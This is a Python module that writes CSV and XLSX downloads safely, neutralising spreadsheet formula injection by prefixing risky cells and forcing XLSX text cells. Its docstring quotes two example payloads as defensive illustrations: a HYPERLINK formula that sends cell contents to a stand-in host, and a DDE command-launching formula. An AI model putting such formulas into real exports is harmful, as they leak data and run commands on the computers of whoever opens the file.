"""The one writer of CSV and XLSX files: no text leaves the site as a live formula.

Texts come from imported documents and from what contributors type; a text such as
``=HYPERLINK("https://evil.example/?"&A1)`` or ``@SUM(1+1)*cmd|' /C calc'!A0`` must reach whoever
opens a download as the words it is, never as a formula the spreadsheet program runs.

- **CSV** (OWASP, *CSV Injection*): a text whose first character — or first after leading spaces — is
  ``=``, ``+``, ``-``, ``@``, a tab, a carriage return, a line feed or NUL (or their full-width forms)
  is written with a single quote in front, and every text cell is enclosed in double quotes (inner
  quotes doubled), so a separator inside a text cannot start a new cell. Numbers stay numbers: ``-1``
  (an ``int``, or a text that is only a number) is not touched.
- **XLSX**: every text is a text cell (``t="inlineStr"``), never a formula cell (openpyxl turns a text
  starting with ``=`` into a formula) nor an error cell (``#N/A``); characters XML cannot hold (control
  characters other than tab, line feed and carriage return) become U+FFFD instead of failing the file.

Downloads are UTF-8 with a byte-order mark (:data:`BOM`) in front, so that Excel reads Cyrillic and
other non-Latin texts as they are (without it Excel guesses the machine's legacy code page);
:func:`csv_lines` yields such a file line by line for a streamed response or a file written as it goes.

Use :func:`csv_writer` / :func:`csv_dict_writer` for CSV and :class:`TextWorkbook` (then
:func:`workbook_bytes`) for XLSX; ``tests/outputs/test_spreadsheets.py`` fails when any other module
of the package builds a CSV writer or an openpyxl workbook itself.

>>> csv_cell('=HYPERLINK("https://evil.example")')
'\\'=HYPERLINK("https://evil.example")'
>>> csv_cell("  @SUM(A1)"), csv_cell("-1"), csv_cell(-1), csv_cell("Ratify the Convention")
("'  @SUM(A1)", '-1', -1, 'Ratify the Convention')
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Collection, Iterable, Iterator, Mapping
from typing import TYPE_CHECKING, Any

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

if TYPE_CHECKING:
    from _typeshed import SupportsWrite

#: First characters that make a spreadsheet program read a cell as a formula (OWASP's list, the line
#: feed and NUL the ASVS adds, and the full-width forms some programs also accept).
FORMULA_STARTS = frozenset("=+-@\t\r\n\0" + "\uff1d\uff0b\uff0d\uff20")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d+)*|[.,]\d+)(?:[eE][+-]?\d+)?")


def csv_cell(value: Any) -> Any:
    """``value`` as a CSV cell that no spreadsheet program runs: a text that would start a formula gets
    a single quote in front; anything else (numbers, ``None``, other texts) is returned as it is."""
    if not isinstance(value, str) or not value:
        return value
    first = value.lstrip(" \u00a0")[:1]
    if (value[0] in FORMULA_STARTS or first in FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


class CsvWriter:
    """``csv.writer`` whose text cells are neutralised (:func:`csv_cell`) and always quoted."""

    def __init__(self, handle: SupportsWrite[str]) -> None:
        self._writer = csv.writer(handle, quoting=csv.QUOTE_STRINGS)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class CsvDictWriter:
    """``csv.DictWriter`` whose text cells are neutralised (:func:`csv_cell`) and always quoted."""

    def __init__(self, handle: SupportsWrite[str], fieldnames: Collection[str]) -> None:
        self.fieldnames = list(fieldnames)
        self._writer = csv.DictWriter(handle, fieldnames=self.fieldnames, quoting=csv.QUOTE_STRINGS)

    def writeheader(self) -> None:
        self._writer.writerow({name: csv_cell(name) for name in self.fieldnames})

    def writerow(self, row: Mapping[str, Any]) -> None:
        self._writer.writerow({key: csv_cell(value) for key, value in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(handle: SupportsWrite[str]) -> CsvWriter:
    return CsvWriter(handle)


def csv_dict_writer(handle: SupportsWrite[str], fieldnames: Collection[str]) -> CsvDictWriter:
    return CsvDictWriter(handle, fieldnames)


#: The byte-order mark a CSV download starts with (U+FEFF, the bytes EF BB BF in UTF-8).
BOM = "\ufeff"


def csv_text(header: Iterable[Any], rows: Iterable[Iterable[Any]], bom: bool = False) -> str:
    """A whole CSV file: ``header`` then ``rows`` (with :data:`BOM` in front if ``bom``)."""
    return "".join(csv_lines(header, rows, bom=bom))


def csv_lines(header: Iterable[Any], rows: Iterable[Iterable[Any]], bom: bool = True) -> Iterator[str]:
    """A CSV file one row at a time (the first with :data:`BOM` in front if ``bom``): for a streamed
    download or a file written as the rows come, so that no list of all rows is ever held."""
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow(header)
    yield (BOM if bom else "") + buffer.getvalue()
    for row in rows:
        buffer.seek(0)
        buffer.truncate()
        writer.writerow(row)
        yield buffer.getvalue()


def xlsx_text(value: str) -> str:
    """A text as an XLSX cell can hold it: characters XML forbids become U+FFFD."""
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)


def _cleaned(value: Any) -> Any:
    return xlsx_text(value) if isinstance(value, str) else value


def as_text(cell: Cell) -> Cell:
    """Make ``cell`` a text cell if it holds a text (a formula or error cell made from a text)."""
    if isinstance(cell.value, str) and cell.data_type != "s":
        cell.data_type = "s"
    return cell


class _TextWorksheet(Worksheet):
    def append(self, iterable: Any) -> None:
        if isinstance(iterable, dict):
            super().append({key: _cleaned(value) for key, value in iterable.items()})
        else:
            super().append([_cleaned(value) for value in iterable])


class _TextWriteOnlyWorksheet(WriteOnlyWorksheet):
    def append(self, row: Iterable[Any]) -> None:
        super().append([self._cell(value) for value in row])

    def _cell(self, value: Any) -> Any:
        if not isinstance(value, str):
            return value
        return as_text(Cell(self, row=1, column=1, value=xlsx_text(value)))


class TextWorkbook(Workbook):
    """An openpyxl workbook whose texts are always written as text cells, never as formulas.

    Rows appended to its sheets have their texts cleaned (:func:`xlsx_text`); a write-only workbook
    writes each text as a text cell as it streams; on :meth:`save` every cell of an ordinary sheet that
    holds a text is made a text cell, however it was set.
    """

    _sheets: list[Any]  # openpyxl's list of sheets (not in its type stubs)

    def __init__(self, write_only: bool = False) -> None:
        super().__init__(write_only=write_only)
        if not write_only:
            self._sheets = [_TextWorksheet(self)]

    def create_sheet(self, title: Any = None, index: int | None = None) -> Any:
        sheet: Worksheet | WriteOnlyWorksheet = (
            _TextWriteOnlyWorksheet(parent=self, title=title)
            if self.write_only
            else _TextWorksheet(parent=self, title=title)
        )
        if index is None:
            self._sheets.append(sheet)
        else:
            self._sheets.insert(index, sheet)
        return sheet

    def save(self, filename: Any) -> None:
        for sheet in self.worksheets:
            if isinstance(sheet, Worksheet):
                for cell in sheet._cells.values():
                    if isinstance(cell, Cell):
                        as_text(cell)
        super().save(filename)


def workbook_bytes(workbook: TextWorkbook) -> bytes:
    """The ``.xlsx`` file of ``workbook``."""
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
